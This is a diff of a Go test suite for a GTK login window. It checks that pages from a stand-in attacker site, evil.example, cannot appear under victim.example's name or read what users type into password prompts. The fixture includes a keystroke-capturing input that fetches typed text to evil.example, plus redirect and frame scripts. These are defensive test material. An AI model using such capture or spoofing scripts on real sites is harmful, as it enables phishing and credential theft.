@@ -22,26 +22,26 @@ const (
 
 // newForgery is a log-in at evil.example, whose page runs the script. victim.example has a page that never arrives, one
 // without content, and one behind a password.
-func newForgery(t *testing.T, script string) *hosts {
+func newForgery(t *testing.T, script string) *bench {
 	t.Helper()
 	b := newBench(t)
-	h := newHosts(b, "evil.example", "victim.example")
+	b.origin = "https://evil.example"
 	b.page("evil.example/login", `<input autofocus oninput="fetch('/typed?' + this.value)">
 		<script>
 			function later(f) { setTimeout(() => { f(); document.title = 'end' }, 1000) }
 			function frame(src) { setTimeout(() => document.body.innerHTML = '<iframe src="' + src + '"></iframe>', 500); later(() => 0) }
 			onload = () => setTimeout(() => { `+script+` })
 		</script>`)
-	b.mux.HandleFunc("evil.example/to/{page}", func(w http.ResponseWriter, r *http.Request) {
+	b.handle("evil.example/to/{page}", func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, "https://victim.example/"+r.PathValue("page"), http.StatusFound)
 	})
 	never := make(chan bool)
 	b.Cleanup(func() { close(never) })
-	b.mux.HandleFunc("victim.example/never", func(http.ResponseWriter, *http.Request) { <-never })
-	b.mux.HandleFunc("victim.example/empty", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
-	b.mux.HandleFunc("victim.example/secret", behindPassword("secret of the victim"))
-	b.mux.HandleFunc("evil.example/secret", behindPassword("secret of the page"))
-	return h
+	b.handle("victim.example/never", func(http.ResponseWriter, *http.Request) { <-never })
+	b.handle("victim.example/empty", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
+	b.handle("victim.example/secret", behindPassword("secret of the victim"))
+	b.handle("evil.example/secret", behindPassword("secret of the page"))
+	return b
 }
 
 func behindPassword(text string) http.HandlerFunc {
@@ -57,9 +57,9 @@ func behindPassword(text string) http.HandlerFunc {
 
 // watch looks at the windows until the returned function is called. No page of the victim is loaded meanwhile, so that
 // function fails the test if any page was seen under the victim's name.
-func (h *hosts) watch() func() { return h.watchFor("victim.example") }
+func (b *bench) watch() func() { return b.watchFor("victim.example") }
 
-func (h *hosts) watchFor(victim string) func() {
+func (b *bench) watchFor(victim string) func() {
 	stop, done := make(chan bool), make(chan string, 1)
 	go func() {
 		forged := ""
@@ -77,51 +77,51 @@ func (h *hosts) watchFor(victim string) func() {
 		}
 	}()
 	return func() {
-		h.Helper()
+		b.Helper()
 		close(stop)
 		if forged := <-done; forged != "" {
-			h.Errorf("a page of another site was seen as:\n%s", forged)
+			b.Errorf("a page of another site was seen as:\n%s", forged)
 		}
 	}
 }
 
 // sees waits until the windows show exactly, or contain, the text.
-func (h *hosts) sees(text string) {
-	h.Helper()
+func (b *bench) sees(text string) {
+	b.Helper()
 	last := ""
-	h.eventually("sight of "+text, func() bool {
+	b.eventually("sight of "+text, func() bool {
 		seen := gtkloop.Seen()
 		if seen != last {
 			last = seen
-			fmt.Fprintf(h.log, "seen: %q\n", seen)
+			fmt.Fprintf(b.log, "seen: %q\n", seen)
 		}
 		return strings.Contains(seen, text)
 	})
 }
 
 // enter types into what has the focus, and presses Return.
-func (h *hosts) enter(text string) {
-	h.Helper()
-	h.xdotool("type", text)
-	h.xdotool("key", "Return")
+func (b *bench) enter(text string) {
+	b.Helper()
+	b.xdotool("type", text)
+	b.xdotool("key", "Return")
 }
 
-func (h *hosts) seesNoPage() {
-	h.Helper()
+func (b *bench) seesNoPage() {
+	b.Helper()
 	if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") {
-		h.Errorf("the page is not covered:\n%s", seen)
+		b.Errorf("the page is not covered:\n%s", seen)
 	}
 }
 
 // start opens the log-in, and returns a function that ends it.
-func (h *hosts) start() func() {
-	ctx, cancel := context.WithCancel(h.Context())
-	done := h.open(ctx, "/login", false)
+func (b *bench) start() func() {
+	ctx, cancel := context.WithCancel(b.Context())
+	done := b.open(ctx, "/login", false)
 	return func() {
-		h.Helper()
+		b.Helper()
 		cancel()
-		if got := receive(h.bench, "result", done); !errors.Is(got.err, context.Canceled) {
-			h.Errorf("Open: %v", got.err)
+		if got := receive(b, "result", done); !errors.Is(got.err, context.Canceled) {
+			b.Errorf("Open: %v", got.err)
 		}
 	}
 }
@@ -145,16 +145,16 @@ func TestNoPageIsSeenUnderAnothersName(t *testing.T) {
 		"redirected frame, then the same host": `location = 'https://victim.example/never'; frame('/to/secret')`,
 	} {
 		t.Run(name, func(t *testing.T) {
-			h := newForgery(t, script)
-			h.page("evil.example/end", "<script>document.title = 'end'</script>")
-			gone := h.signal("evil.example/gone")
-			watched := h.watch()
-			stop := h.start()
+			b := newForgery(t, script)
+			b.page("evil.example/end", "<script>document.title = 'end'</script>")
+			gone := b.signal("evil.example/gone")
+			watched := b.watch()
+			stop := b.start()
 			if strings.Contains(name, "blank") {
-				receive(h.bench, "end of the document", gone)
-				h.sees("title: about:blank — Log in\nabout:blank\nCancel\n[page]\n\n")
+				receive(b, "end of the document", gone)
+				b.sees("title: about:blank — Log in\nabout:blank\nCancel\n[page]\n\n")
 			} else {
-				h.sees(evilPage + "end\n")
+				b.sees(evilPage + "end\n")
 			}
 			watched()
 			stop()
@@ -170,22 +170,22 @@ func TestPasswordFormCoversThePage(t *testing.T) {
 		"straight": "location = 'https://victim.example/secret'",
 	} {
 		t.Run(name, func(t *testing.T) {
-			h := newForgery(t, script+"; document.onvisibilitychange = () => setTimeout(() => stop(), 2000)")
-			typed := h.signal("evil.example/typed")
-			watched := h.watch()
-			end := h.start()
-			h.sees(victimAsks)
-			h.seesNoPage()
-			h.picture("password-" + name)
-			h.onWindow("windowfocus", "--sync")
-			h.xdotool("type", "ann")
-			h.sees("The password is not asked for any more")
-			h.seesNoPage()
-			h.picture("withdrawn")
-			h.enter("pass word")
-			h.seesNoPage()
-			h.xdotool("key", "alt+o")
-			h.sees(evilPage)
+			b := newForgery(t, script+"; document.onvisibilitychange = () => setTimeout(() => stop(), 2000)")
+			typed := b.signal("evil.example/typed")
+			watched := b.watch()
+			end := b.start()
+			b.sees(victimAsks)
+			b.seesNoPage()
+			b.picture("password-" + name)
+			b.onWindow("windowfocus", "--sync")
+			b.xdotool("type", "ann")
+			b.sees("The password is not asked for any more")
+			b.seesNoPage()
+			b.picture("withdrawn")
+			b.enter("pass word")
+			b.seesNoPage()
+			b.xdotool("key", "alt+o")
+			b.sees(evilPage)
 			watched()
 			if len(typed) != 0 {
 				t.Errorf("the page got %q", <-typed)
@@ -199,89 +199,89 @@ func TestPasswordFormCoversThePage(t *testing.T) {
 func TestPasswordFormAsTheUserSeesIt(t *testing.T) {
 	const toVictim = "location = 'https://victim.example/secret'"
 	// answer answers the question of the page's own host, and waits for what the page does then.
-	answer := func(h *hosts, answered <-chan string) {
-		h.Helper()
-		h.sees("“evil.example” asks for your password")
-		h.seesNoPage()
-		h.onWindow("windowfocus", "--sync")
-		h.enter("ann\tpw")
-		receive(h.bench, "answer", answered)
-		h.sees(evilPage)
+	answer := func(b *bench, answered <-chan string) {
+		b.Helper()
+		b.sees("“evil.example” asks for your password")
+		b.seesNoPage()
+		b.onWindow("windowfocus", "--sync")
+		b.enter("ann\tpw")
+		receive(b, "answer", answered)
+		b.sees(evilPage)
 	}
 	t.Run("Escape brings the page back", func(t *testing.T) {
-		h := newForgery(t, toVictim)
-		end := h.start()
-		h.sees(victimAsks)
-		h.key("Escape")
-		h.sees(evilPage)
+		b := newForgery(t, toVictim)
+		end := b.start()
+		b.sees(victimAsks)
+		b.key("Escape")
+		b.sees(evilPage)
 		end()
 	})
 	t.Run("answered", func(t *testing.T) {
-		h := newForgery(t, toVictim)
-		end := h.start()
-		h.sees(victimAsks)
-		h.onWindow("windowfocus", "--sync")
-		h.enter("ann\twrong")
-		h.sees("The name or the password was not right")
-		h.seesNoPage()
-		h.picture("password-again")
-		h.enter("pw") // the name is still there
-		h.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
+		b := newForgery(t, toVictim)
+		end := b.start()
+		b.sees(victimAsks)
+		b.onWindow("windowfocus", "--sync")
+		b.enter("ann\twrong")
+		b.sees("The name or the password was not right")
+		b.seesNoPage()
+		b.picture("password-again")
+		b.enter("pw") // the name is still there
+		b.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
 		end()
 	})
 	t.Run("of the page's own host", func(t *testing.T) {
-		h := newForgery(t, "fetch('/secret').then(() => fetch('/end'))")
-		answered := h.signal("evil.example/end")
-		end := h.start()
-		answer(h, answered)
+		b := newForgery(t, "fetch('/secret').then(() => fetch('/end'))")
+		answered := b.signal("evil.example/end")
+		end := b.start()
+		answer(b, answered)
 		end()
 	})
 	// The page and its question come from two processes. The window hears of both at the same time, and has shown neither.
 	t.Run("of a page that is not shown yet", func(t *testing.T) {
-		h := newForgery(t, "fetch('/secret').then(() => fetch('/end')); setTimeout(() => fetch('/asked'), 500)")
-		asked, answered := h.signal("evil.example/asked"), h.signal("evil.example/end")
+		b := newForgery(t, "fetch('/secret').then(() => fetch('/end')); setTimeout(() => fetch('/asked'), 500)")
+		asked, answered := b.signal("evil.example/asked"), b.signal("evil.example/end")
 		release := sync.OnceFunc(gtkloop.HoldAfterResponse())
 		defer release()
-		end := h.start()
-		receive(h.bench, "question", asked)
+		end := b.start()
+		receive(b, "question", asked)
 		release()
-		answer(h, answered)
+		answer(b, answered)
 		end()
 	})
 	t.Run("before any page", func(t *testing.T) {
-		h := newForgery(t, "")
-		h.origin = "https://victim.example"
+		b := newForgery(t, "")
+		b.origin = "https://victim.example"
 		ask, ann := behindPassword("welcome"), make(chan bool, 9)
-		h.mux.HandleFunc("victim.example/login", func(w http.ResponseWriter, r *http.Request) {
+		b.handle("victim.example/login", func(w http.ResponseWriter, r *http.Request) {
 			if user, _, _ := r.BasicAuth(); user == "ann" {
 				ann <- true
 			}
 			ask(w, r)
 		})
-		end := h.start()
-		h.sees(victimAsks)
-		h.key("Escape")
-		h.sees("“victim.example” was not opened")
-		h.xdotool("key", "Return") // "Try again"
-		h.sees(victimAsks)
-		h.xdotool("keydown", "Return", "sleep", "0.5", "keyup", "Return") // held down by accident
-		h.enter("ann\tpw")
-		h.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
-		receive(h.bench, "answer of Ann", ann)
+		end := b.start()
+		b.sees(victimAsks)
+		b.key("Escape")
+		b.sees("“victim.example” was not opened")
+		b.xdotool("key", "Return") // "Try again"
+		b.sees(victimAsks)
+		b.xdotool("keydown", "Return", "sleep", "0.5", "keyup", "Return") // held down by accident
+		b.enter("ann\tpw")
+		b.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
+		receive(b, "answer of Ann", ann)
 		end()
 	})
 	t.Run("asked too often", func(t *testing.T) {
-		h := newForgery(t, "onclick = () => "+toVictim+"; "+toVictim)
-		end := h.start()
+		b := newForgery(t, "onclick = () => "+toVictim+"; "+toVictim)
+		end := b.start()
 		asks := func() bool { return strings.Contains(gtkloop.Seen(), victimAsks) }
-		refused := func() bool { return strings.Contains(h.log.String(), "password forms") }
-		h.sees(victimAsks)
+		refused := func() bool { return strings.Contains(b.log.String(), "password forms") }
+		b.sees(victimAsks)
 		for range 5 {
-			h.clickUntil("password form", asks)
-			h.key("Escape")
-			h.sees(evilPage)
+			b.clickUntil("password form", asks)
+			b.key("Escape")
+			b.sees(evilPage)
 		}
-		h.clickUntil("refusal of a sixth form", refused)
+		b.clickUntil("refusal of a sixth form", refused)
 		end()
 	})
 }
